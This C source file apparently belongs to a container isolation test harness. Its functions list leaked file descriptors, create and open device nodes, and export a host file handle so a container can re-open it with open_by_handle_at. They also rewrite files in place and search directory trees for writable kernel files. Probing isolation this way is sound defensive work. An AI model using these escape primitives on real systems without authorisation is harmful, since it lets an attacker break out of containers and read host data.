/* Files: device nodes, handles of files outside, what opens for writing. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <unistd.h>

enum { MAX_TEXT = 65536, MAX_FD = 65536 };

int attack_fds(char **words)
{
	(void)words;
	for (int fd = 0; fd < MAX_FD; fd++) {
		char path[64];
		char target[256];
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		ssize_t size = readlink(path, target, sizeof(target));
		printf("%d %.*s\n", fd, size < 0 ? 1 : (int)size, size < 0 ? "?" : target);
	}
	return 0;
}

int attack_node(char **words)
{
	mode_t type = *words[1] == 'b' ? S_IFBLK : S_IFCHR;
	dev_t device = makedev((unsigned)parse_word(words[2]), (unsigned)parse_word(words[3]));
	unlink(words[0]);
	if (print_result("make", mknod(words[0], type | 0666, device)) != 0)
		return 1;
	int fd = open(words[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	return print_result("open", fd);
}

/* --- handles, name_to_handle_at(2): the host prints one, the container tries to open it --------- */

struct handle {
	struct file_handle head;
	unsigned char bytes[MAX_HANDLE_SZ]; /* where head.f_handle begins */
};

int attack_handle(char **words)
{
	struct handle handle = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount;
	if (name_to_handle_at(AT_FDCWD, words[0], &handle.head, &mount, 0) < 0)
		return print_result("handle", -1);
	printf("%d:", handle.head.handle_type);
	for (unsigned i = 0; i < handle.head.handle_bytes; i++)
		printf("%02x", handle.bytes[i]);
	printf("\n");
	return 0;
}

int attack_open_handle(char **words)
{
	struct handle handle = { 0 };
	char text[MAX_TEXT];
	const char *colon = strchr(words[1], ':');
	if (!colon)
		return 2;
	handle.head.handle_type = (int)strtol(words[1], NULL, 10);
	for (const char *hex = colon + 1; hex[0] && hex[1]; hex += 2) {
		char byte[] = { hex[0], hex[1], '\0' };
		if (handle.head.handle_bytes == MAX_HANDLE_SZ)
			return 2;
		handle.bytes[handle.head.handle_bytes++] = (unsigned char)strtoul(byte, NULL, 16);
	}
	int mount = open(words[0], O_RDONLY | O_CLOEXEC);
	if (mount < 0)
		return print_result("mount", -1);
	int fd = open_by_handle_at(mount, &handle.head, O_RDONLY | O_CLOEXEC);
	ssize_t size = fd < 0 ? 0 : read(fd, text, sizeof(text));
	if (size > 0)
		fwrite(text, 1, (size_t)size, stdout);
	return print_result("open", fd);
}

/* --- what can be written ------------------------------------------------------------------------ */

int attack_write_back(char **words)
{
	int refused = 0;
	for (; *words; words++) {
		char text[MAX_TEXT];
		int in = open(*words, O_RDONLY | O_CLOEXEC);
		ssize_t size = in < 0 ? in : read(in, text, sizeof(text));
		close(in);
		int out = size < 0 ? -1 : open(*words, O_WRONLY | O_CLOEXEC);
		refused |= print_result(*words, out < 0 ? -1 : write(out, text, (size_t)size));
		close(out);
	}
	return refused;
}

static void print_if_writable(int directory, const char *name, const char *path)
{
	struct stat status;
	int fd = openat(directory, name, O_WRONLY | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC);
	/* Root may open any file for writing, but a file of the kernel's without such a bit has no
	 * function for it. Over a masked one lies the null device. */
	if (fd >= 0 && fstat(fd, &status) == 0 && status.st_mode & 0222 && S_ISREG(status.st_mode))
		printf("%s/%s\n", path, name);
	close(fd);
}

/* Nothing is written, so that what does come through does no harm. */
static void look_below(int parent, const char *name, const char *path)
{
	int fd = openat(parent, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
	DIR *directory = fd < 0 ? NULL : fdopendir(fd);
	struct dirent *entry;
	while (directory && (entry = readdir(directory))) {
		char *below;
		if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, ".."))
			continue;
		if (entry->d_type == DT_REG)
			print_if_writable(fd, entry->d_name, path);
		if (entry->d_type != DT_DIR || asprintf(&below, "%s/%s", path, entry->d_name) < 0)
			continue;
		look_below(fd, entry->d_name, below);
		free(below);
	}
	if (directory)
		closedir(directory);
}

int attack_writable(char **words)
{
	for (; *words; words++) {
		struct stat status;
		if (stat(*words, &status) == 0 && !S_ISDIR(status.st_mode))
			print_if_writable(AT_FDCWD, *words, "");
		else
			look_below(AT_FDCWD, *words, *words);
	}
	return 0;
}
